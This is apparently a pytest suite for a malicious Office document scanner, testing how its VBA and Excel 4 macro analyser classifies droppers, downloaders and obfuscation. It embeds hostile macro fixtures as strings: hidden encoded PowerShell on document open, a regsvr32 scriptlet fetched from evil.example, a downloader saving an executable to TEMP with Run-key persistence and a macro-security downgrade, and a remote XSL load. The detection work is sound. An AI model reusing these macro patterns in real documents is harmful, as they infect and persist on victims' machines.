"""VBA analyser: the behaviour classifier on source strings, XLM record parsing, and real samples."""

from __future__ import annotations

from pathlib import Path

import pytest

from aptcatch.capture.engine import Scanner
from aptcatch.capture.formats import ole_xlm, vba_rules

DROPPER = """
Attribute VB_Name = "ThisDocument"
Private Sub Document_Open()
    Dim c As String
    c = "pow" & "ershell -w hidden -enc SQBFAFgA"
    Shell c, vbHide
End Sub
"""

FORMATTER = """
Attribute VB_Name = "Module1"
Sub FormatReport()
    ' format the cells of the report; the word Shell in a comment is ignored
    Range("A1:D10").Font.Bold = True
    Application.Run "OtherMacro"
End Sub
"""


def test_autoexec_shell_powershell_is_exec_combination() -> None:
    v = vba_rules.classify(DROPPER)
    assert v.autoexec == ["Document_Open"]
    assert {"vba.shell_exec", "vba.powershell"} <= set(v.hits)
    assert v.executes


def test_plain_formatting_macro_has_no_behaviour() -> None:
    v = vba_rules.classify(FORMATTER)
    assert v.autoexec == []
    assert v.hits == {}
    assert v.obfuscation == []


def test_split_squiblydoo_and_reversed_strings_are_joined() -> None:
    src = 'Sub AutoOpen()\n x = "reg" & "svr32 /s /u /i:http://evil.example/a.sct " & "scrobj.dll"\nEnd Sub\n'
    v = vba_rules.classify(src)
    assert "vba.lolbin_regsvr32" in v.hits and "scrobj.dll" in v.hits["vba.lolbin_regsvr32"][0]
    rev = (
        'Sub Workbook_Open()\n CreateObject(StrReverse("llehS.tpircSW")).Run StrReverse("exe.athsm")\nEnd Sub'
    )
    hits = vba_rules.classify(rev).hits
    assert "vba.shell_exec" in hits and "vba.lolbin_mshta" in hits


def test_downloader_persistence_and_security_downgrade() -> None:
    src = """Sub Auto_Open()
Set x = CreateObject("MSXML2.XMLHTTP"): x.Open "GET", "http://198.51.100.7/p.bin", False: x.Send
Set s = CreateObject("ADODB.Stream"): s.Write x.responseBody: s.SaveToFile Environ("TEMP") & "\\a.exe"
CreateObject("WScript.Shell").RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\a", "x"
CreateObject("WScript.Shell").RegWrite "HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\AccessVBOM",1
End Sub"""
    hits = vba_rules.classify(src).hits
    for fid in ("vba.downloader", "vba.drops_file", "vba.autostart_persistence", "vba.registry_write",
                "vba.security_downgrade"):  # fmt: skip
        assert fid in hits, fid
    assert "vba.web_request" not in hits  # folded into the downloader


def test_shellcode_runner_declares() -> None:
    src = """Private Declare PtrSafe Function VirtualAlloc Lib "kernel32" (ByVal a As LongPtr) As LongPtr
Private Declare PtrSafe Function RtlMoveMemory Lib "kernel32" (ByVal d As LongPtr) As LongPtr
Private Declare PtrSafe Function CreateThread Lib "kernel32" (ByVal s As Long) As LongPtr
"""
    v = vba_rules.classify(src)
    assert "vba.shellcode_runner" in v.hits and "vba.win_api" not in v.hits
    benign = 'Private Declare PtrSafe Function GetTickCount Lib "kernel32" () As Long\n'
    assert set(vba_rules.classify(benign).hits) == {"vba.win_api"}


def test_triggers_activex_vs_click() -> None:
    src = "Private Sub cpp_Layout(ByVal Index As Long)\nEnd Sub\nSub Button1_Click()\nEnd Sub\n"
    assert vba_rules.autoexec_triggers(src) == ["cpp_Layout"]
    assert vba_rules.is_trigger_name("InkPicture1_Painted")
    assert not vba_rules.is_trigger_name("Action_Click")
    assert vba_rules.is_document_event("AutoOpen") and not vba_rules.is_document_event("cpp_Layout")


def test_obfuscation_reasons() -> None:
    chrs = "x = " + " & ".join(f"Chr({65 + i % 20})" for i in range(60)) + "\n"
    assert any("Chr()" in r for r in vba_rules.obfuscation_reasons(chrs))
    assert vba_rules.obfuscation_reasons(FORMATTER) == []
    assert vba_rules.obfuscation_reasons("", {"Dridex string": 1})


def test_parse_biff_lines() -> None:
    lines = [
        "0085     14 BOUNDSHEET : Sheet Information - Excel 4.0 macro sheet, very hidden - \x00Macro1",
        "0085     14 BOUNDSHEET : Sheet Information - worksheet or dialog sheet, visible - \x00Sheet",
        "0018     23 LABEL : Cell Value, String Constant - built-in-name 1 Auto_Open len=7 ptgRef3d M!A1",
        "Sheet,Reference,Formula,Value",
        '\x00Macro1,A1,"EXEC(""cmd /c calc"")",""',
        '\x00Macro1,A2,HALT(),""',
    ]
    info = ole_xlm.parse_biff_lines(lines)
    assert info.macro_sheets == [("Macro1", "very hidden")]
    assert info.auto_names == ["Auto_Open"]
    assert info.formulas[0] == ("Macro1!A1", '=EXEC("cmd /c calc")')


# -- real files ----------------------------------------------------------------------------------
def _ids(result: object) -> set[str]:
    return {f.id for f in result.findings}  # type: ignore[attr-defined]


@pytest.mark.corpus
def test_sample_with_vba_ppt_stays_clean(shared_data: Path, scanner: Scanner) -> None:
    r = scanner.scan_file(shared_data / "oletools-testdata/tests/test-data/olevba/sample_with_vba.ppt")
    assert "vba.present" in _ids(r)
    assert r.verdict == "clean"
    assert r.artifact.metadata["codepage"] == 949


@pytest.mark.corpus
def test_excel4_macro_xls(shared_data: Path, scanner: Scanner) -> None:
    base = shared_data / "oletools-testdata/tests/test-data/excel4-macros"
    for name in ("excel4_sample_macro.xls", "excel4_sample_macro_excel5_format.xls"):
        ids = _ids(scanner.scan_file(base / name))
        assert {"xlm.macrosheet", "xlm.auto_open"} <= ids, name


@pytest.mark.corpus
def test_emotet_dropper_is_malicious(shared_data: Path, scanner: Scanner) -> None:
    pyzipper = pytest.importorskip("pyzipper")
    zpath = shared_data / (
        "maldocs-dev/2019-06-Emotet-Droppers/"
        "27c6a5ea19f88bbc0293c12e38837ab14d17b1b6f9403d410ccdc4baff55979b.zip"
    )
    if not zpath.exists():
        pytest.skip("sample not present")
    with pyzipper.AESZipFile(zpath) as zf:
        name = zf.namelist()[0]
        data = zf.read(name, pwd=b"infected")  # in memory only, never written
    r = scanner.scan_bytes(data, name=name)
    assert {"vba.autoexec", "vba.autoexec_exec"} <= _ids(r)
    assert r.verdict == "malicious"


def test_remote_xsl_transform_is_execution() -> None:
    from aptcatch.capture.formats import vba_rules

    code = (
        'Private Sub Document_open()\nSet d = CreateObject("Msxml2.DOMDocument.3.0")\n'
        'd.async = False\nd.Load "http://198.51.100.7/r.jpg"\nd.transformNode (d)\nEnd Sub\n'
    )
    verdict = vba_rules.classify(code)
    assert "vba.remote_xsl" in verdict.hits
    assert "vba.remote_xsl" in verdict.executes


def test_fold_evaluates_chr_arithmetic() -> None:
    from aptcatch.capture.formats.vba_fold import fold, folded_strings

    assert fold('x = Chr(80 + 3) & "he" & "l" & Chr(100 + 8)') == 'x = "Shell"'
    assert "Shell.Application" in folded_strings(
        'Function f()\nf = Chr(80 + 3) & "hell"\nEnd Function\n'
        'Set o = CreateObject(f & "." & Chr(60 + 5) & "pplication")'
    )
